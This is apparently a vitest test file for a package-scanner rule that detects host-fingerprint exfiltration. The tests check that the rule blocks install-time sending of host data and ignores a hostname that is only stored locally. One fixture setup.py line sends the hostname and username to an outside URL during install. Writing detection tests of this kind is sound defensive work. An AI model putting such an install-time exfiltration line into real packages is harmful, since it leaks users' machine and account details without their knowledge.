import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './host-fingerprint-exfiltration.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('blocks host data that are sent at install', async () => {
  expect(
    await find({
      'setup.py':
        "import socket, getpass, requests\nrequests.get('https://example.org/?h=' + socket.gethostname() + getpass.getuser())\n",
    }),
  ).toEqual([['block', 'setup.py', 2, true]])
})

it('leaves a host name that stays here', async () => {
  expect(
    await find({
      'demo/__init__.py': 'import socket\nHOST = socket.gethostname()\n',
    }),
  ).toEqual([])
})
